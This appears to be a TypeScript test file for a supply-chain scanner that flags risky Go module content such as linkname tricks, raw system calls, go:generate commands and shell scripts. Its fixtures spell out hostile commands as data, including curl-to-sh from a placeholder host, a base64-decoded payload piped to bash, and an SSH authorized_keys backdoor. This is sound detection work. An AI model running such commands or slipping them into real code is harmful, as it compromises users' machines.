import assert from 'node:assert/strict'
import { test } from 'node:test'
import { elf, facts, lines, noise } from '../../../test/support/content.ts'

const RLO = '\u202E'

test('readContent tells system calls in assembly, and names that are linked to what starts programs', () => {
  assert.deepEqual(
    lines({
      'go.mod': 'module example.com/fast/hash\n',
      'a_amd64.s': 'TEXT ·f(SB),4,$0\n\t// SYSCALL\n\tMOVQ $1, AX\n\tSYSCALL\n\tRET\n',
      'b_amd64.s': 'TEXT ·g(SB),4,$0\n\tPADDD X0, X1\n\tRET\n',
      'a.go':
        'package hash\n\nimport _ "unsafe"\n\n//go:linkname start os.StartProcess\nfunc start()\n\n//go:linkname now runtime.nanotime\nfunc now() int64\n',
      'b.go': 'package hash\n\n//go:linkname start os.StartProcess\n',
    }),
    [
      'high linkname a.go:5 start is linked to os.StartProcess | start | os.StartProcess',
      'low linkname a.go:8 now is linked to runtime.nanotime | now | runtime.nanotime',
      'medium assembly a_amd64.s:4 assembly that makes system calls of its own | SYSCALL',
    ],
  )
})

test('readContent reads go:generate, line directives and scripts', () => {
  assert.deepEqual(
    lines({
      'a.go':
        'package a\n\n//go:generate sh -c "curl -s https://example.invalid/x | sh"\n//go:generate stringer -type T\n\n//line grammar.y:10\nvar a = 1\n//line b.go:3\nvar b = 1\n',
      'b.go': 'package a\n',
      'install.sh': '#!/bin/sh\ncurl -sSL https://example.invalid/i.sh | sh\n',
      'hide.sh': 'echo aGVsbG8= |\n  base64 -d | bash\n',
      'keep.sh': 'cat key >> ~/.ssh/authorized_keys\necho "export PATH=$PATH:/opt" >> ~/.bashrc\n',
      'step.sh': 'curl -s -o /opt/run https://example.invalid/x\nchmod +x /opt/run\n/opt/run\n',
      'json.sh': 'curl -s https://example.invalid/x | python -m json.tool\n',
    }),
    [
      'medium generate a.go:3 go generate runs what it fetches or decodes | sh -c "curl -s https://example.invalid/x | sh"',
      'low generate a.go:4 go generate runs a command | stringer -type T',
      'medium line-directive a.go:8 code that claims to stand in another file of the module, which is there | b.go',
      'medium script hide.sh:1 a script that decodes what it runs | echo aGVsbG8= | base64 -d | bash',
      'low script install.sh:2 a script that fetches what it runs | curl -sSL https://example.invalid/i.sh | sh',
      'medium script keep.sh:1 a script that leaves something behind that runs later | cat key >> ~/.ssh/authorized_keys',
      'low script step.sh:3 a script that fetches what it runs | /opt/run',
    ],
  )
})

test('readContent keeps 200 facts of a kind, the gravest, and says how many more there are', () => {
  const files: Record<string, string | Uint8Array> = { 'z.syso': elf(1) }
  for (let i = 0; i < 300; i++) files[`testdata/${i}`] = elf(2)
  const all = facts(files)
  assert.equal(all.length, 201)
  assert.ok(all.some(({ what }) => what === '101 more like these'))
  assert.ok(all.some(({ weight }) => weight === 'critical'))
})

test('readContent ends on hostile and random bytes without a throw', () => {
  const cruel: Record<string, string | Uint8Array> = {
    'a.go': `package a\n${' '.repeat(400_000)}`,
    'b.go': `package a\n// ${`${RLO} `.repeat(50_000)}`,
    'c.c': '(('.repeat(200_000),
    'd.go': `package a\n\n/*\n${'#define a b\n'.repeat(20_000)}${'system('.repeat(20_000)}*/\nimport "C"\n`,
    '.vscode/tasks.json': '['.repeat(100_000),
    '.claude/settings.json': '{"a":'.repeat(100_000),
    'e.sh': `${'curl | '.repeat(50_000)}sh`,
    'f.sh': `curl ${'a'.repeat(300_000)}`,
    'g.png': Buffer.concat([Buffer.from('\u0089PNG\r\n\u001A\n', 'latin1'), Buffer.alloc(100)]),
    'h.zip': Buffer.concat([Buffer.from('PK\u0003\u0004', 'latin1'), noise(1000)]),
    'i.gz': Buffer.concat([Buffer.from([0x1f, 0x8b, 8]), noise(1000)]),
    'j.tar': Buffer.concat([Buffer.alloc(257, 65), Buffer.from('ustar'), noise(4000)]),
    'k.txt': 'A'.repeat(500_000),
    'l.s': '/*'.repeat(100_000),
  }
  const signatures = [
    '\u007FELF',
    'MZ',
    '\u00CA\u00FE\u00BA\u00BE',
    '\u00CE\u00FA\u00ED\u00FE',
    'PK\u0005\u0006',
    '\u0089PNG\r\n\u001A\n',
  ]
  for (const [i, begin] of signatures.entries()) {
    for (let length = 0; length < 80; length += 7) {
      cruel[`s${i}-${length}.png`] = Buffer.concat([Buffer.from(begin, 'latin1'), noise(length)])
    }
  }
  for (let i = 0; i < 50; i++) cruel[`n${i}.sql`] = noise(3000).subarray(i * 50)
  assert.ok(facts(cruel).length > 0)
})
